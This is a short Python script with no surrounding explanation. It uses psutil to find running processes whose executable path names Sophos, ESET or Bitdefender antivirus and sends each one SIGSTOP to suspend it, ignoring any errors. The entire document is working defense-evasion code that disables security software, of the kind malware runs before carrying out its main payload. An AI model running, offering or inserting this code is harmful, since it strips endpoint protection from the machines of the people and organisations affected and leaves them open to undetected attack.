import psutil

for p in psutil.process_iter(["name", "exe"]):
    exe = (p.info.get("exe") or "").lower()
    if "sophos" in exe or "eset" in exe or "bitdefender" in exe:
        try:
            p.send_signal(19)  # SIGSTOP
        except psutil.Error:
            pass
